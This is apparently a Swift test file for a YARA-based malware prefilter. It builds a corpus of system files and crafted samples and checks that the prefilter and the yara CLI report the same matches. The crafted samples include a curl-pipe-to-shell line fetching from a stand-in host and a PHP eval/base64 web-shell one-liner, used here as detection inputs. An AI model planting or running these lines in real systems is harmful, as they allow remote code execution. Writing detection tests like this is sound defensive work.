import Foundation
import Glibc
import Testing
@testable import VigilPrefilter

/// The corpus of the parity test: files of this machine (programs, Python sources and
/// bytecode, documentation) and crafted files for every string kind and condition.
/// Built once per test run in a private folder.
final class ParityCorpus: @unchecked Sendable {
    let dir = TempDir("vigil-prefilter-parity")
    private(set) var files: [String] = []
    private(set) var bytes = 0

    static let shared = ParityCorpus()

    private init() {
        // Every n-th regular file, in name order, so the sample is spread over each tree
        // and the same on every run of the same machine.
        add(from: "/usr/bin", take: 160, maxSize: 4 << 20)
        add(from: "/usr/lib/python3", take: 320, maxSize: 1 << 20)
        add(from: "/usr/share/doc", take: 320, maxSize: 1 << 20)
        var crafted: [[UInt8]] = [eicar, Array(("VIGIL-TEST-" + "MARKER-DENY").utf8), wide("VIGIL-TEST-" + "MARKER-DENY"),
                                  Array("#!/bin/sh\ncurl -s http://x.example/a | sh\n".utf8),
                                  Array("<?php eval(base64_decode($_POST['x'])); ?>".utf8),
                                  Array("VIGIL-BENCH-MARKER-7731".utf8), [0xDE, 0xAD, 0xBE, 0xEF, 1, 2, 0xCA, 0xFE, 0, 0, 0x41, 0x42, 0x43, 0x0B, 0xAD, 0xF0, 0x0D],
                                  Array("http://dl.malicious-bench.example/payload.php?id=4242".utf8)]
        for c in stringCases { crafted += c.matching + c.notMatching }
        crafted += conditionSamples
        // Files each rule set's rules match (PE and ELF headers + their strings), so the
        // sets' detections take part, not only their silence.
        for set in paritySets {
            if let files = set.files(), let rules = try? CompiledRules.compile(files: files) {
                crafted += Witness.files(rules, limit: 400)
            }
        }
        for (i, data) in crafted.enumerated() {
            files.append(dir.write("crafted/\(i).bin", data))
            bytes += data.count
        }
    }

    private func add(from root: String, take: Int, maxSize: Int) {
        var all: [String] = []
        let e = FileManager.default.enumerator(atPath: root)
        while let rel = e?.nextObject() as? String {
            let p = root + "/" + rel
            var st = stat()
            guard lstat(p, &st) == 0, (st.st_mode & S_IFMT) == S_IFREG, st.st_size > 0, Int(st.st_size) <= maxSize,
                  access(p, R_OK) == 0 else { continue }
            all.append(p)
        }
        all.sort()
        guard !all.isEmpty else { return }
        let step = max(1, all.count / take)
        for (k, p) in all.enumerated() where k % step == 0 && k / step < take {
            guard let data = FileManager.default.contents(atPath: p) else { continue }
            let name = root.split(separator: "/").joined(separator: "_") + "/" + String(k) + "_" + (p as NSString).lastPathComponent
            files.append(dir.write(name, Array(data)))
            bytes += data.count
        }
    }
}

/// A rule set the parity test runs: source files, or nil when not on this machine.
struct RuleSetCase: CustomStringConvertible, Sendable {
    let name: String
    let files: @Sendable () -> [String]?
    var description: String { name }
}

let sharedBench = repoRoot + "/../shared/bench"

func yaraFiles(in dir: String) -> [String] {
    var out: [String] = []
    let e = FileManager.default.enumerator(atPath: dir)
    while let rel = e?.nextObject() as? String {
        if rel.hasSuffix(".yar") || rel.hasSuffix(".yara") { out.append(dir + "/" + rel) }
    }
    return out.sorted()
}

let paritySets: [RuleSetCase] = [
    RuleSetCase(name: "bundled Signatures") { yaraFiles(in: repoRoot + "/Signatures") },
    RuleSetCase(name: "bench rules") {
        FileManager.default.fileExists(atPath: sharedBench + "/rules") ? yaraFiles(in: sharedBench + "/rules") : nil
    },
    RuleSetCase(name: "1,000 synthetic rules (make-rules.py)") {
        guard FileManager.default.fileExists(atPath: sharedBench + "/make-rules.py") else { return nil }
        let out = "/tmp/vigil-prefilter-synthetic-\(getpid())"
        if FileManager.default.fileExists(atPath: out + "/synthetic.yar") { return [out + "/synthetic.yar"] }
        guard let r = run("/usr/bin/python3", [sharedBench + "/make-rules.py", "--rules", "1000", "--seed", "7", out]), r.status == 0 else { return nil }
        return [out + "/synthetic.yar"]
    },
    RuleSetCase(name: "ReversingLabs public rules (MIT)") { yaraFiles(in: repoRoot + "/Tests/Parity/rules/reversinglabs/yara") },
    // A rule set this repository does not carry (licence, size), for a local run:
    // VIGIL_PARITY_EXTRA_RULES=/path/to/rules swift test --filter ParityTests
    RuleSetCase(name: "extra rules (VIGIL_PARITY_EXTRA_RULES)") {
        guard let dir = ProcessInfo.processInfo.environment["VIGIL_PARITY_EXTRA_RULES"] else { return nil }
        return yaraFiles(in: dir)
    },
    RuleSetCase(name: "string kinds and conditions (crafted)") {
        let dir = "/tmp/vigil-prefilter-crafted-\(getpid())"
        try? FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        var text = "import \"pe\"\nimport \"math\"\nimport \"elf\"\n"
        for (i, c) in stringCases.enumerated() { text += "rule kind_\(i) { strings: $a = \(c.declaration) condition: $a }\n" }
        for (i, c) in conditionCases.enumerated() {
            text += "rule cond_\(i) { strings: $a = \"a-marker\" $b = { 62 2D 6D 61 72 6B 65 72 } $c = /c-mark[e]r/ "
                + "condition: (\(c.condition)) or (filesize == 7777777 and all of them) }\n"
        }
        FileManager.default.createFile(atPath: dir + "/crafted.yar", contents: Data(text.utf8))
        return [dir + "/crafted.yar"]
    },
]

@Suite("Parity: the prefilter on and off and the yara CLI report the same (file, rule) pairs")
struct ParityTests {
    @Test("same matches as the yara CLI, with the prefilter on (block mode, and stream mode fed in pieces) and off", arguments: paritySets)
    func parity(_ set: RuleSetCase) throws {
        guard let ruleFiles = set.files(), !ruleFiles.isEmpty else {
            print("parity: \(set.name): not on this machine, skipped")
            return
        }
        let corpus = ParityCorpus.shared
        let rules = try CompiledRules.compile(files: ruleFiles)
        let pair = try Pair(rules: rules)
        let streamed = try Pair.streamed(rules)

        // The yara CLI (Debian's, the same libyara), one thread, the engine's externals.
        var args = ["-r", "-p", "1", "-w"]
        for e in CompiledRules.externals { args += ["-d", "\(e)="] }
        guard let cli = run("/usr/bin/yara", args + ruleFiles + [corpus.dir.path]) else {
            Issue.record("the yara CLI is missing (scripts/deps.sh installs it)")
            return
        }
        var byCLI = Set<String>()
        for line in cli.out.split(separator: "\n") {
            guard let space = line.firstIndex(of: " ") else { continue }
            byCLI.insert(String(line[line.index(after: space)...]) + "\t" + String(line[..<space]))
        }
        // Files the CLI could not scan (it names them on standard error) are compared
        // between the prefilter on and off only.
        let cliErrors = Set(cli.err.split(separator: "\n").compactMap { l -> String? in
            guard l.hasPrefix("error scanning ") else { return nil }
            return String(l.dropFirst("error scanning ".count).prefix { $0 != ":" })
        })

        var on = Set<String>(), off = Set<String>()
        var decisions: [PrefilterDecision: Int] = [:]
        var streamDecisions: [PrefilterDecision: Int] = [:]
        var errorsOff = 0, differ: [String] = [], streamDiffer: [String] = []
        for path in corpus.files {
            guard let data = FileManager.default.contents(atPath: path) else { continue }
            let r = pair.scan(Array(data))
            decisions[r.on.decision, default: 0] += 1
            if r.off.code != 0 { errorsOff += 1 }
            if r.on.rules != r.off.rules || r.on.code != r.off.code { differ.append(path) }
            let s = Array(data).withUnsafeBytes { streamed.scan($0) }
            streamDecisions[s.decision, default: 0] += 1
            if s.rules != r.off.rules || s.code != r.off.code { streamDiffer.append(path) }
            for x in r.on.rules { on.insert(path + "\t" + rules.name(ofRule: x)) }
            for x in r.off.rules { off.insert(path + "\t" + rules.name(ofRule: x)) }
        }
        #expect(differ.isEmpty, "prefilter on and off differ on \(differ.prefix(5))")
        #expect(streamDiffer.isEmpty, "the stream prefilter fed in pieces and libyara alone differ on \(streamDiffer.prefix(5))")
        #expect(on == off)
        let comparable = off.filter { !cliErrors.contains(String($0.prefix { $0 != "\t" })) }
        let cliComparable = byCLI.filter { !cliErrors.contains(String($0.prefix { $0 != "\t" })) }
        #expect(comparable == cliComparable, "only vigil: \(comparable.subtracting(cliComparable).prefix(5)), only yara: \(cliComparable.subtracting(comparable).prefix(5))")
        #expect(cli.status == 0 || !cliErrors.isEmpty, "yara CLI failed: \(cli.err.prefix(500))")
        print("parity: \(set.name): \(rules.count) rules, \(corpus.files.count) files (\(corpus.bytes >> 20) MiB), "
              + "\(off.count) match pairs, yara CLI \(byCLI.count), identical: \(on == off && comparable == cliComparable); "
              + "libyara not called for \(decisions[.clean] ?? 0), conditions only \(decisions[.conditionsOnly] ?? 0), full \(decisions[.full] ?? 0); "
              + "yara CLI errors \(cliErrors.count), libyara errors \(errorsOff); "
              + "stream mode: not called \(streamDecisions[.clean] ?? 0), conditions only \(streamDecisions[.conditionsOnly] ?? 0), "
              + "full \(streamDecisions[.full] ?? 0), identical: \(streamDiffer.isEmpty)")
    }
}
